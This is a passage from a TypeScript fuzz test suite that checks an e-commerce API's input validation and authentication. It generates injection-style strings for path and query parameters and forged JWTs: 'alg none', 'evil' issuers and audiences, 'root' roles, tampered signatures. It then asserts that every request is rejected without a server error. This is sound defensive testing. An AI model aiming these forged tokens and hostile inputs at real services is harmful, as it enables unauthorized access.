        const t = targets[i];
        const req = t.req(s);
        const r = await send(req);
        const what = `${req.method} ${req.path} ${t.field}=${JSON.stringify(s).slice(0, 120)} (${s.length} chars)`;
        if (textOk(s, t.min, t.max)) expectRejected(r, t.ok[0], t.ok[1], what);
        else {
          expectRejected(r, 400, 'VALIDATION_FAILED', what);
          expect(r.body.details.fields.map((x: { path: string }) => x.path), what).toContain(t.field);
        }
      },
      300,
    );
    // and in the fields without a text rule: emails (register refuses a short password whatever the email) and passwords
    await fuzz(
      fc.tuple(fc.boolean(), nastyString),
      async ([asEmail, s]) => {
        const r = asEmail
          ? await send({ method: 'POST', path: '/api/v1/users/register', body: { email: s, password: 'short' } })
          : await send({ method: 'POST', path: '/api/v1/users/login', body: { email: 'nobody@faults.test', password: s } });
        const what = `${asEmail ? 'register email' : 'login password'} ${JSON.stringify(s).slice(0, 120)}`;
        if (asEmail || codePoints(s) < 8 || codePoints(s) > 1024) expectRejected(r, 400, 'VALIDATION_FAILED', what);
        else expectRejected(r, 401, 'UNAUTHENTICATED', what);
      },
      60,
    );
  });

  it('fuzz: path and query parameters (unicode, invalid UTF-8, SQL, script, long) on every route that takes them', async () => {
    const param = fc.oneof(nastyString.filter((s) => s.length <= 600), fc.uuid(), fc.string({ unit: 'grapheme-ascii', maxLength: 50 }));
    const routes: ((x: string) => Req)[] = [
      (x) => ({ method: 'GET', path: `/api/v1/products/${x}` }),
      (x) => ({ method: 'GET', path: `/api/v1/orders/${x}`, token: alice.token }),
      (x) => ({ method: 'GET', path: `/api/v1/orders/${x}/events`, token: alice.token }),
      (x) => ({ method: 'POST', path: `/api/v1/orders/${x}/cancel`, token: bob.token, body: { reason: 'fuzz' } }),
      (x) => ({ method: 'POST', path: `/api/v1/orders/${x}/return`, token: bob.token, body: {} }),
      (x) => ({ method: 'PUT', path: `/api/v1/cart/items/${x}`, token: carol.token, body: { quantity: 1 } }),
      (x) => ({ method: 'DELETE', path: `/api/v1/cart/items/${x}`, token: carol.token }),
      (x) => ({ method: 'PATCH', path: `/api/v1/admin/products/${x}`, token: adminToken, body: { name: 'fuzz' } }),
      (x) => ({ method: 'PUT', path: `/api/v1/admin/inventory/${x}`, token: adminToken, body: { add: 1 } }),
      (x) => ({ method: 'GET', path: `/api/v1/admin/webhooks/${x}`, token: adminToken }),
      (x) => ({ method: 'PATCH', path: `/api/v1/admin/webhooks/${x}`, token: adminToken, body: { description: 'fuzz' } }),
      (x) => ({ method: 'POST', path: `/api/v1/admin/webhooks/${NO_SUBSCRIPTION}/deliveries/${x}/redeliver`, token: adminToken, body: {} }),
      (x) => ({ method: 'GET', path: `/api/v1/admin/webhooks/${NO_SUBSCRIPTION}/deliveries?status=${x}&limit=${x}&cursor=${x}`, token: adminToken }),
      (x) => ({ method: 'GET', path: `/api/v1/products?q=${x}` }),
      (x) => ({ method: 'GET', path: `/api/v1/products?category=${x}&limit=${x}` }),
      (x) => ({ method: 'GET', path: `/api/v1/products?minPrice=${x}&maxPrice=${x}` }),
      (x) => ({ method: 'GET', path: `/api/v1/orders?limit=${x}`, token: alice.token }),
      (x) => ({ method: 'GET', path: `/api/v1/admin/orders?status=${x}&limit=${x}`, token: adminToken }),
      (x) => ({ method: 'GET', path: `/api/v1/products?cursor=${x}` }),
      (x) => ({ method: 'GET', path: `/api/v1/orders?cursor=${x}`, token: alice.token }),
      (x) => ({ method: 'GET', path: `/api/v1/admin/orders?cursor=${x}`, token: adminToken }),
    ];
    const cursorRoutes = [routes.length - 3, routes.length - 2, routes.length - 1];
    // cursors that decode: any JSON, and order cursors from any year
    const cursor = fc.oneof(
      fc.jsonValue({ maxDepth: 2 }),
      fc.record({ id: nastyString.filter((s) => s.length <= 200) }),
      fc.record({ c: fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 1, max: 12 })).map(([y, m]) => `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-01T00:00:00Z`), i: fc.uuid() }),
    ).map((v) => Buffer.from(JSON.stringify(v)).toString('base64url'));
    await fuzz(
      fc.oneof(
        fc.tuple(fc.nat(routes.length - 1), param.map(encode)),
        fc.tuple(fc.constantFrom(...cursorRoutes), cursor),
      ),
      async ([i, x]) => {
        const req = routes[i](x);
        const r = await send(req);
        // reads and removing a line that is not there may answer 200; nothing else may pass
        if (req.method === 'GET' || req.method === 'DELETE') expectAnswered(r, `${req.method} ${req.path.slice(0, 200)}`);
        else expectRejected(r, undefined, undefined, `${req.method} ${req.path.slice(0, 200)}`);
      },
      250,
    );
  });

  it('fuzz: random bearer tokens and JWTs (any header, any claims, any signature) on every route that needs one: 401', async () => {
    const header = fc.oneof(
      fc.record({ alg: fc.constantFrom('none', 'None', 'HS256', 'HS384', 'HS512', 'RS256', 'ES256', 'PS256', 'EdDSA', ''), typ: fc.constantFrom('JWT', 'at+jwt') }),
      fc.jsonValue({ maxDepth: 2 }),
    );
    const payload = fc.oneof(
      fc.record({
        sub: fc.oneof(fc.constant(alice.id), fc.constant(bob.id), fc.uuid(), fc.constantFrom(...NASTY)),
        role: fc.constantFrom('CUSTOMER', 'ADMIN', 'admin', 'root'),
        iss: fc.constantFrom(ISSUER, 'evil'),
        aud: fc.constantFrom(AUDIENCE, [AUDIENCE], 'evil'),
        iat: fc.integer({ min: 0, max: 2 ** 32 }),
        exp: fc.oneof(fc.integer({ min: 0, max: 2 ** 32 }), fc.constant(nowS() + 600)),
      }),
      fc.jsonValue({ maxDepth: 2 }),
    );
    const signature = fc.oneof(fc.constant(''), fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b).toString('base64url')), fc.constant(alice.token.split('.')[2]));
    const jwt = fc.tuple(header, payload, signature).map(([h, p, s]) => `Bearer ${b64(h)}.${b64(p)}.${s}`);
    const junk = fc.oneof(
      fc.string({ unit: 'binary-ascii', maxLength: 200 }).map((s) => `Bearer ${s}`),
      fc.string({ unit: 'binary-ascii', maxLength: 200 }),
      fc.constantFrom('Bearer', 'bearer  ', 'Token abc', `Bearer ${alice.token}x`, `Bearer x${alice.token}`, `Bearer ${alice.token.slice(0, -2)}`, `Bearer ${alice.token}.`),
    ).map((s) => s.replace(/[^\t\x20-\x7e]/g, '')); // what a header value may carry
    // signed with the API's own key, but with a claim that must fail
    const badlySigned = fc
      .tuple(
        fc.constantFrom<Record<string, unknown>>({ exp: 1 }, { iss: 'evil' }, { aud: 'evil' }, { role: 'ROOT' }, { nbf: 2 ** 32 }, { exp: '9999999999' }, { iat: undefined }, { sub: undefined }),
        fc.constantFrom('HS256', 'HS384'),
      )
      .map(([over, alg]) => ({ over, alg }));
    const n = gated().length;
    await fuzz(
      fc.tuple(fc.nat(n - 1), fc.oneof(jwt, junk, badlySigned)),
      async ([i, auth]) => {
        const authorization =
          typeof auth === 'string' ? auth : `Bearer ${await sign(Object.fromEntries(Object.entries(claims(auth.over)).filter(([, v]) => v !== undefined)), f.stack.secrets.JWT_SECRET, auth.alg)}`;
        const accidentallyValid = auth === `Bearer ${alice.token}`;
        if (accidentallyValid || (typeof auth !== 'string' && auth.alg === 'HS256' && Object.keys(auth.over).length === 0)) return;
        const req = gated()[i];
        const r = await send({ ...req, headers: { ...req.headers, authorization } });
        expectRejected(r, 401, 'UNAUTHENTICATED', `${req.method} ${req.path} with ${authorization.slice(0, 200)}`);
      },
      200,
    );
  });

  it('fuzz: unknown routes and methods: 404 NOT_FOUND', async () => {
    const segment = fc.oneof(nastyString.filter((s) => s.length <= 40), fc.string({ unit: 'grapheme-ascii', maxLength: 12 })).map((s) => `z${encode(s)}`);
    await fuzz(
      fc.tuple(fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'), fc.array(segment, { minLength: 1, maxLength: 4 }), fc.constantFrom('/api/v1/', '/api/v1/cart/', '/api/v1/admin/', '/', '/api/')),
      async ([method, segments, prefix]) => {
        const path = `${prefix}${segments.join('/')}`;
        const r = await send({ method, path, token: alice.token, ...(method === 'GET' || method === 'OPTIONS' || method === 'DELETE' ? {} : { body: {} }) });
        // routing comes before the role check: an unknown admin path is as unknown as any other
        expectRejected(r, 404, 'NOT_FOUND', `${method} ${path}`);
      },
      80,
    );
  });

  it('ends with the books balanced and not one 5xx', async () => {
    const histogram = Object.entries(statuses)
      .map(([s, n]) => `${s}x${n}`)
      .join(' ');
    console.log(`bad-input: ${sent} requests sent, max status ${maxStatus} (${histogram})`);
    expect(maxStatus).toBeLessThan(500);
    expect(await f.db.order.count()).toBe(2);
    expect(await f.report('bad-input', [orderA, orderB], started)).toEqual([]);
  });
});
